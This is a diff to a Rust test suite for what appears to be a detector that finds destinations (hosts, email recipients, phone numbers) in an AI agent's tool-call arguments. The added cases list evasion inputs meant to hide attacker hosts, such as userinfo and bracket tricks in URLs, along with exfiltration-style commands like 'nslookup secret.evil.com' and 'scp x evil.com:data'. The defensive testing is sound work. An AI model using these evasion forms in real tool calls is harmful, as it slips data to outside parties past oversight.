@@ -111,7 +111,7 @@ fn an_address_counts_in_every_reading_of_a_client() {
     assert!(named_in("See https://docs.example\\@evil.com and data.evil.md").is_empty());
 }
 
-/// What no client reads alike is a destination of its own, beside each host that some client reads.
+/// A text that clients read differently is a destination of its own, beside each host that some client reads.
 #[test]
 fn what_is_no_plain_address_is_a_destination_of_its_own() {
     for url in [
@@ -244,6 +244,83 @@ fn a_parameter_may_stand_for_several_things() {
 fn a_message_names_channels_users_and_phone_numbers() {
     let found = named_in("Ask #general and @eve, or call +46 70 123 45 67. See #12, 2026-11-30.");
     assert_eq!(names(&found), ["#general", "+46701234567", "@eve"]);
+}
+
+/// Found by the second round of attacks.
+#[test]
+fn no_text_around_an_address_or_recipient_hides_it() {
+    for (to, name) in [
+        ("//?<eve@evil.com>", "eve@evil.com"),
+        ("https:?<eve@evil.com>", "eve@evil.com"),
+        ("//#<eve@evil.com>, bob@good.com", "eve@evil.com"),
+        ("//<eve@evil.com>", "eve@evil.com"),
+        ("eve@18.2.0", "eve@18.2.0"),
+        ("eve@203.0.28935", "eve@203.0.28935"),
+        ("nan", "nan"),
+        ("+inf", "+inf"),
+        ("0046-70-1234567", "0046701234567"),
+        ("0120-12-3456", "0120123456"),
+        ("o'brien@evil.com", "o'brien@evil.com"),
+    ] {
+        let found = in_arguments(json!({"to": to}));
+        assert!(found.contains(&name.to_owned()), "{to}: {found:?}");
+    }
+    for (text, host) in [
+        ("https://secret.evil.com@good.com", "secret.evil.com"),
+        ("https://secret.evil.com,@good.com", "secret.evil.com"),
+        ("[https://secret.evil.com]@good.com", "secret.evil.com"),
+        ("url=https://secret.evil.com&x=@good.com", "secret.evil.com"),
+        ("nslookup secret.evil.com", "secret.evil.com"),
+        ("socket.gethostbyname('secret.evil.com')", "secret.evil.com"),
+        ("scp x evil.com:data", "evil.com"),
+        ("2001:db8:1:2:3:4:5:6", "[2001:db8:1:2:3:4:5:6]"),
+        ("sms +46701234567", "+46701234567"),
+        ("https://good.com?to=eve@evil.com", "eve@evil.com"),
+    ] {
+        let found = in_arguments(json!({"q": text}));
+        assert!(found.contains(&host.to_owned()), "{text}: {found:?}");
+    }
+    for (arguments, name) in [
+        (json!({"attendees": {"eve": true}}), "eve"),
+        (json!({"to": {"eve": 1}}), "eve"),
+        (json!({"to": "{\"eve\": true}"}), "eve"),
+        (json!({"servers": {"data.evil": true}}), "data.evil"),
+        (json!({"url": "https://good.com/,evil.com"}), "evil.com"),
+        (json!({"msisdn": "0701234567"}), "0701234567"),
+    ] {
+        let found = in_arguments(arguments.clone());
+        assert!(found.contains(&name.to_owned()), "{arguments}: {found:?}");
+    }
+    let texts = ["Update README.md/CHANGELOG.md", "open requirements.in, logo.ai, Makefile.am"];
+    for text in texts.into_iter().chain(["order.id", "mail {o}bob@good.com}"]) {
+        let found = named_in(text);
+        assert!(!names(&found).iter().any(|name| !name.contains('@')), "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn ordinary_values_have_no_needless_destination() {
+    for (arguments, expected) in [
+        (json!({"url": "https://good.com/v1?fields=id,name"}), &["good.com"][..]),
+        (json!({"url": "https://good.com/?bbox=10.5,59.2"}), &["good.com"]),
+        (json!({"uri": "file:///home/me/My Docs/a.txt"}), &[]),
+        (json!({"hop_count": 3, "max_links": 10, "server_port": 443, "site_id": 12}), &[]),
+        (json!({"to": 1_735_776_000, "from": 0}), &[]),
+        (json!({"to": "12:30"}), &[]),
+        (json!({"to": "2026-11-30 10:00:00+01:00"}), &[]),
+        (json!({"to": "\"Smith, Bob\" <bob@good.com>"}), &["bob@good.com"]),
+        (json!({"email_body": "a, b\nc", "mail_folder": "INBOX"}), &[]),
+        (json!({"q": "site:python.org asyncio"}), &["python.org"]),
+        (json!({"server": {"host": "good.com", "port": 80}}), &["good.com"]),
+    ] {
+        assert_eq!(in_arguments(arguments.clone()), *expected, "{arguments}");
+    }
+    // A schema with a begin makes `to` the end of a range or a route.
+    let schema = json!({"properties": {"from": {}, "to": {}}});
+    let spec = ToolSpec { full_input_schema: schema, ..tool(Reach::Configured, true) };
+    assert!(addressed(&spec, &json!({"from": "Oslo", "to": "Bergen"})).is_empty());
+    let found = addressed(&spec, &json!({"from": "me", "to": "#general, eve@evil.com"}));
+    assert_eq!(names(&found), ["#general", "eve@evil.com"]);
 }
 
 #[test]
